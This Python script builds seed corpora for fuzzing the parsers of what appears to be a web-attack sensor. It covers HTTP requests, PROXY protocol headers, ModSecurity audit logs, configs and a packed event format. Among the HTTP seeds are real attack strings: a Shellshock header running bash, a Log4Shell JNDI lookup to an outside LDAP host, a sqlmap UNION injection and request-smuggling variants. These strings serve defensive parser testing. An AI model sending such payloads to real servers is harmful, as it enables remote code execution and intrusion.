#!/usr/bin/env python3
"""Writes the seed corpus of the fuzz targets: fuzz/corpus/<target>/seed-*.

Seeds come from the real audit logs under tests/data (Apache + mod_security2, nginx +
libmodsecurity 3, drosera; made by tests/data/make_fixtures.sh), the requests those servers were
sent (tests/data/fixture_requests.py), hand-written PROXY headers and configurations. Each seed
starts with its target's option bytes (zero: the defaults), see the target's comment.
Regression inputs (regress-*, crashes the fuzzers found) and other files are kept as they are.
Usage: fuzz/make_corpus.py       (from anywhere; rewrites the seed-* files only)
"""
import hashlib
import importlib.util
import os
import re
import struct
import socket

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
DATA = os.path.join(ROOT, "tests", "data")
CORPUS = os.path.join(ROOT, "fuzz", "corpus")


def write(target, seeds):
    folder = os.path.join(CORPUS, target)
    os.makedirs(folder, exist_ok=True)
    for name in os.listdir(folder):
        if name.startswith("seed-"):
            os.remove(os.path.join(folder, name))
    for i, (label, data) in enumerate(seeds):
        label = re.sub(r"[^a-z0-9]+", "-", label.lower()).strip("-")[:40]
        with open(os.path.join(folder, "seed-%03d-%s" % (i, label)), "wb") as f:
            f.write(data)


def read(name):
    with open(os.path.join(DATA, name), "rb") as f:
        return f.read()


def lines(name):
    return [l for l in read(name).split(b"\n") if l.strip()]


# ---- HTTP requests ------------------------------------------------------------------------

def fixture_requests():
    spec = importlib.util.spec_from_file_location("fixture_requests",
                                                  os.path.join(DATA, "fixture_requests.py"))
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    out = []
    for set_name, reqs in mod.SETS.items():
        for i, r in enumerate(reqs):
            out.append(("%s %d" % (set_name, i), r))
    return out


def crlf(s):
    return s.replace(b"\n", b"\r\n")


HAND_REQUESTS = [
    ("minimal", b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"),
    ("http10", b"GET /index.html HTTP/1.0\r\n\r\n"),
    ("http09", b"GET /\r\n"),
    ("post cl", crlf(b"POST /login HTTP/1.1\nHost: a\nContent-Type: application/x-www-form-"
                     b"urlencoded\nContent-Length: 27\n\n") + b"user=admin&password=hunter2"),
    ("chunked trailer", crlf(b"POST /upload HTTP/1.1\nHost: a\nTransfer-Encoding: chunked\n\n"
                             b"5;ext=1\nhello\n6\n world\n0\nX-Trailer: t\n\n")),
    ("pipelined", crlf(b"GET /a HTTP/1.1\nHost: a\n\nGET /b HTTP/1.1\nHost: a\n"
                       b"Connection: close\n\nHEAD /c HTTP/1.1\nHost: a\n\n")),
    ("expect continue", crlf(b"PUT /f HTTP/1.1\nHost: a\nExpect: 100-continue\n"
                             b"Content-Length: 3\n\n") + b"abc"),
    ("absolute form", crlf(b"GET http://example.com/x?y=1 HTTP/1.1\nHost: example.com\n\n")),
    ("connect", crlf(b"CONNECT example.com:443 HTTP/1.1\nHost: example.com:443\n\n")),
    ("options star", crlf(b"OPTIONS * HTTP/1.1\nHost: a\n\n")),
    ("smuggling cl te", crlf(b"POST / HTTP/1.1\nHost: a\nContent-Length: 4\n"
                             b"Transfer-Encoding: chunked\n\n0\n\n")),
    ("two cl", crlf(b"POST / HTTP/1.1\nHost: a\nContent-Length: 1\nContent-Length: 2\n\nab")),
    ("te gzip", crlf(b"POST / HTTP/1.1\nHost: a\nTransfer-Encoding: gzip, chunked\n\n0\n\n")),
    ("obs fold", crlf(b"GET / HTTP/1.1\nHost: a\nX-Long: one\n two\n\n")),
    ("bare lf", b"GET / HTTP/1.1\nHost: a\n\n"),
    ("nul header", b"GET / HTTP/1.1\r\nHost: a\r\nX: a\x00b\r\n\r\n"),
    ("space in target", b"GET /a b c HTTP/1.1\r\nHost: a\r\n\r\n"),
    ("http2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
    ("tls hello", bytes.fromhex("16030100a5010000a10303") + b"\x00" * 32),
    ("sqlmap", crlf(b"GET /products.php?id=1%20AND%201%3D1%20UNION%20ALL%20SELECT%20NULL%2CNULL"
                    b"--%20- HTTP/1.1\nHost: a\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap"
                    b".org)\nAccept: */*\nAccept-Encoding: gzip,deflate\nCache-Control: no-cache"
                    b"\nConnection: close\n\n")),
    ("shellshock", crlf(b"GET /cgi-bin/status HTTP/1.1\nHost: a\nUser-Agent: () { :; }; "
                        b"/bin/bash -c 'id'\n\n")),
    ("log4shell", crlf(b"GET / HTTP/1.1\nHost: a\nX-Api-Version: ${jndi:ldap://1.2.3.4/a}\n\n")),
    ("chunk hex upper", crlf(b"POST / HTTP/1.1\nHost: a\nTransfer-Encoding: chunked\n\n"
                             b"A\n0123456789\n0\n\n")),
    ("leading crlf", b"\r\n\r\nGET / HTTP/1.1\r\nHost: a\r\n\r\n"),
]


def http_seeds():
    seeds = []
    for label, r in HAND_REQUESTS + fixture_requests():
        seeds.append((label, b"\x00\x00" + r))
    # Small limits (option bit 0): request line 40, headers 4*64 bytes, line 60, 4 headers,
    # body 2*16 bytes.
    for label, r in HAND_REQUESTS[:6]:
        seeds.append(("small " + label, b"\x01\x07" + bytes([40, 64, 60, 4, 16]) + r))
    # The dialects (option bits 1-2: Apache, nginx), and heads at their limits: nginx's header
    # buffers (53 lines of 600 bytes fit, 54 do not), Apache's joined field and longer line.
    for label, r in HAND_REQUESTS[:6]:
        seeds.append(("apache " + label, b"\x02\x03" + r))
        seeds.append(("nginx " + label, b"\x04\x05" + r))
    lines = b"".join(b"X%02d: %s\r\n" % (i, b"b" * 595) for i in range(54))
    seeds.append(("nginx buffers", b"\x04\x09GET / HTTP/1.1\r\nHost: a\r\n" + lines + b"\r\n"))
    seeds.append(("apache joined field", b"\x02\x09GET / HTTP/1.1\r\nHost: a\r\n"
                  + (b"Cookie: " + b"c" * 4095 + b"\r\n") * 2 + b"\r\n"))
    seeds.append(("apache line 8191", b"\x02\x09GET / HTTP/1.1\r\nHost: a\r\nX: "
                  + b"b" * 8188 + b"\r\n\r\n"))
    return seeds


# ---- PROXY protocol -------------------------------------------------------------------------

V2_SIG = b"\r\n\r\n\x00\r\nQUIT\n"


def v2(command, fam, payload):
    return V2_SIG + bytes([0x20 | command, fam]) + struct.pack(">H", len(payload)) + payload


def proxy_seeds():
    req = b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"
    v4 = socket.inet_pton(socket.AF_INET, "192.168.0.1") + socket.inet_pton(
        socket.AF_INET, "10.0.0.2") + struct.pack(">HH", 56324, 443)
    v6 = socket.inet_pton(socket.AF_INET6, "2001:db8::1") + socket.inet_pton(
        socket.AF_INET6, "2001:db8::ff") + struct.pack(">HH", 1234, 8080)
    unix = b"/tmp/a".ljust(108, b"\x00") + b"/tmp/b".ljust(108, b"\x00")
    tlv = b"\x01\x00\x02h2" + b"\x04\x00\x01\x00"  # ALPN, NOOP
    return [
        ("v1 tcp4", b"PROXY TCP4 192.168.0.1 192.168.0.11 56324 443\r\n" + req),
        ("v1 tcp6", b"PROXY TCP6 2001:db8::1 2001:db8::ff 1234 8080\r\n" + req),
        ("v1 unknown", b"PROXY UNKNOWN\r\n" + req),
        ("v1 longest", b"PROXY UNKNOWN ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff "
                       b"ffff:ffff:ffff:ffff:ffff:ffff:ffff:ffff 65535 65535\r\n"),
        ("v1 mapped", b"PROXY TCP6 ::ffff:1.2.3.4 ::1 0 65535\r\n"),
        ("v1 bad port", b"PROXY TCP4 1.2.3.4 5.6.7.8 080 65536\r\n"),
        ("v2 tcp4", v2(1, 0x11, v4) + req),
        ("v2 tcp6", v2(1, 0x21, v6) + req),
        ("v2 tcp4 tlv", v2(1, 0x11, v4 + tlv) + req),
        ("v2 local", v2(0, 0x00, b"") + req),
        ("v2 unix", v2(1, 0x31, unix)),
        ("v2 udp4", v2(1, 0x12, v4)),
        ("v2 short", v2(1, 0x21, v4)),
        ("not proxy", req),
    ]


# ---- audit records --------------------------------------------------------------------------

def native_entries(text):
    """The entries of a native serial log, A marker to Z marker."""
    out, cur = [], None
    for line in text.split(b"\n"):
        m = re.match(rb"^(---?)([A-Za-z0-9]+)(-|---)([A-Z])--\r?$", line)
        if m and m.group(4) == b"A":
            cur = [line]
            continue
        if cur is not None:
            cur.append(line)
            if m and m.group(4) == b"Z":
                out.append(b"\n".join(cur) + b"\n")
                cur = None
    return out


def json_seeds(files):
    seeds = []
    for f in files:
        for i, l in enumerate(lines(f)):
            seeds.append(("%s %d" % (f, i), b"\x00" + l))
    return seeds


def native_seeds():
    seeds = []
    for f in ("modsec2_native.log", "modsec3_native.log"):
        text = read(f)
        entries = native_entries(text)
        for i, e in enumerate(entries):
            seeds.append(("%s %d" % (f, i), b"\x00\x00\x00" + e))
        # Two entries back to back, with junk and a torn entry between them.
        torn = entries[1][: len(entries[1]) // 2]
        seeds.append(("%s stream" % f, b"\x00\x00\x00" + entries[0] + b"junk\n" + torn +
                      entries[2]))
        seeds.append(("%s crlf" % f, b"\x00\x00\x00" + entries[0].replace(b"\n", b"\r\n")))
    return seeds


def index_seeds():
    seeds = []
    for f in ("modsec2_index.log", "modsec3_index.log"):
        for i, l in enumerate(lines(f)):
            seeds.append(("%s %d" % (f, i), l))
    seeds.append(("v2 truncated", lines("modsec2_index.log")[0].rstrip() + b" L"))
    return seeds


def mlogc_header_seeds():
    import base64
    seeds = []
    entries = native_entries(read("modsec2_native.log"))
    index = lines("modsec2_index.log")
    users = [(b"sensor-a", b"pw-a-0123456789"), (b"mlogc", b"s3cret:with:colons"),
             (b"admin", b"hunter2")]
    for i, e in enumerate(entries[:4]):
        user, pw = users[i % len(users)]
        auth = b"Basic " + base64.b64encode(user + b":" + pw)
        md5 = hashlib.md5(e).hexdigest().encode()
        seeds.append(("entry %d" % i, b"\n".join(
            [auth, b"md5:" + md5 + b" " + index[i % len(index)], index[i % len(index)], user,
             pw, e])))
    seeds.append(("bearer", b"Bearer abc\nmd5:00\n-\nu\np\nbody"))
    seeds.append(("unpadded", b"basic bWxvZ2M6czNjcmV0OndpdGg6Y29sb25z\n\n\nmlogc\nx\n"))
    return seeds


# ---- configurations ---------------------------------------------------------------------------

CONFIGS = [
    ("empty", b""),
    ("listeners", b"""[server]
persona = "nginx"
bind = ["127.0.0.1"]

[[server.listener]]
port = 8080
kind = "real"

[[server.listener]]
port = 8443
kind = "real"
tls = true
proxy_protocol = true

[[server.listener]]
port = 2222
kind = "fake"
site = "builtin:dev-api"
"""),
    ("limits units", b"""[limits]
max_request_line = "8KiB"
max_header_line = 4096
max_header_bytes = "64 kib"
max_body_bytes = "1MiB"
header_timeout_s = "200ms"
body_timeout_s = 30.5
keepalive_timeout_s = "2m"
"""),
    ("collector", b"""[general]
data_dir = "/var/lib/drosera"
log_level = "debug"

[collector]
listen = "127.0.0.1:9090"
store = "sqlite"
retention_days = 30

[[collector.sensor]]
name = "edge-1"
token = "0123456789abcdef0123"

[[collector.mlogc]]
user = "apache1"
password = "secret"
sensor = "apache-1"

[[collector.tail]]
path = "/var/log/apache2/modsec_audit.log"
format = "modsec2-json"
"""),
    ("shipper", b"""[shipper]
enabled = true
url = "https://collector.example.com:9090"
token = "0123456789abcdef0123"
batch_events = 500
"""),
    ("errors", b"""[limits]
max_body_bytes = 0
unknown_key = 1
[nosuch]
x = 1
"""),
    ("toml features", b"""# inline tables, dotted keys, literal and multi-line strings
[server]
server_header = '''Apache/2.4.57
(Debian)'''
trusted_proxies = ["10.0.0.0/8", "::1",]
engine.paranoia_level = 2
[engine]
paranoia_level = 0x2
extra_rules = ['''/etc/a.conf''']
inspect_response_body = true
"""),
]


def config_seeds():
    seeds = list(CONFIGS)
    # The built-in defaults, as `drosera config default` prints them, when a build is around
    # (kept as corpus/config/defaults.toml otherwise).
    binary = os.path.join(ROOT, "build", "release", "drosera")
    if os.access(binary, os.X_OK):
        import subprocess
        out = subprocess.run([binary, "config", "default"], capture_output=True,
                             timeout=10).stdout
        if out:
            with open(os.path.join(CORPUS, "config", "defaults.toml"), "wb") as f:
                f.write(out)
    for site in ("site/site.toml", "sites/dev-api/site.toml"):
        with open(os.path.join(ROOT, site), "rb") as f:
            seeds.append((site, f.read()))
    return seeds


def varint(n):
    out = b""
    while n >= 0x80:
        out += bytes([(n & 0x7F) | 0x80])
        n >>= 7
    return out + bytes([n])


def zigzag(n):
    return varint((n << 1) ^ (n >> 63))


def field(b):
    return varint(len(b)) + b


def packed_detail(e):
    """An event's detail as the store encodes it (store/codec.cc, writeDetail)."""
    d = field(e.get("sensor", b"s")) + field(e.get("unique_id", b"u1")) + field(b"drosera")
    d += zigzag(e.get("time_us", 1794787200000000)) + field(e.get("src_ip", b"203.0.113.9"))
    d += varint(40000) + field(b"192.0.2.1") + varint(80) + field(b"real") + b"\x00"
    d += field(e.get("method", b"GET")) + field(e.get("uri", b"/")) + field(b"1.1")
    d += field(b"www.example.com") + field(e.get("ua", b"curl/8.0")) + zigzag(200)
    headers = e.get("headers", [])
    d += varint(len(headers)) + b"".join(field(n) + field(v) for n, v in headers)
    rules = e.get("rules", [])
    d += varint(len(rules))
    for rid, msg, tags in rules:
        d += zigzag(rid) + zigzag(2) + field(msg) + field(b"data") + field(b"match")
        d += varint(len(tags)) + b"".join(field(t) for t in tags)
        d += field(b"rules.conf") + zigzag(10) + field(b"OWASP_CRS/3.3.4")
    d += varint(0) + zigzag(0) + zigzag(0)  # scores, inbound and outbound score
    cats = e.get("categories", [])
    d += varint(len(cats)) + b"".join(field(c) for c in cats)
    traps = e.get("traps", [])
    d += varint(len(traps))
    for kind in traps:
        d += field(kind) + field(b"/bait") + field(b"x") + zigzag(990001) + field(b"")
    d += b"\x00" + varint(0) + varint(0) + b"\x01"  # flagged, anomalies, limits_hit, inspected
    return d


def packed_body(detail, raw, request_body=b""):
    """The body the store keeps: version 1, the detail's length as 5 varint bytes, the rest."""
    n = len(detail)
    length = bytes([((n >> (7 * i)) & 0x7F) | (0x80 if i < 4 else 0) for i in range(5)])
    return b"\x01" + length + detail + field(raw) + field(request_body)


def packed_seeds():
    """Packed batches (store/packed.h): lines, events with stored and zstd bodies."""
    import shutil
    import subprocess
    import tempfile

    line = lines("drosera_events.log")[0]
    plain = packed_detail({})
    rich = packed_detail({
        "uri": b"/index.php?id=1' or 1=1--", "ua": b"sqlmap/1.7",
        "headers": [(b"Host", b"www.example.com"), (b"X-Bytes", b"\xff\x00")],
        "rules": [(942100, b"SQL Injection Attack Detected via libinjection",
                   [b"attack-sqli", b"OWASP_CRS"]), (949110, b"Inbound Anomaly Score", [])],
        "categories": [b"sqli"], "traps": [b"robots"]})

    def event(detail, body):
        return b"\x01" + field(detail) + field(body)

    seeds = [
        ("line", b"DRP1\x00" + field(line)),
        ("stored-body", b"DRP1" + event(plain, b"\x00" + packed_body(plain, line))),
        ("rich-and-line", b"DRP1" + event(rich, b"\x00" + packed_body(rich, line, b"a=1")) +
         b"\x00" + field(b"not json")),
        ("wrong-detail", b"DRP1" + event(plain, b"\x00" + packed_body(rich, line))),
        ("cut-short", b"DRP1" + event(rich, b"\x00" + packed_body(rich, line))[:-7]),
    ]
    if shutil.which("zstd"):
        for label, detail in (("zstd-body", plain), ("zstd-rich", rich)):
            with tempfile.NamedTemporaryFile() as f:
                f.write(packed_body(detail, line))
                f.flush()
                frame = subprocess.run(["zstd", "-q", "-c", "--no-check", f.name],
                                       check=True, capture_output=True).stdout
            seeds.append((label, b"DRP1" + event(detail, b"\x01" + frame)))
    return seeds


def main():
    write("http_parser", http_seeds())
    write("proxy_protocol", proxy_seeds())
    write("v3_json", json_seeds(["modsec3_json.log", "drosera_events.log"]))
    write("v2_json", json_seeds(["modsec2_json.log"]))
    write("native", native_seeds())
    write("mlogc_index", index_seeds())
    write("mlogc_headers", mlogc_header_seeds())
    write("config", config_seeds())
    write("packed", packed_seeds())
    for t in sorted(os.listdir(CORPUS)):
        print("%-16s %3d files" % (t, len(os.listdir(os.path.join(CORPUS, t)))))


if __name__ == "__main__":
    main()
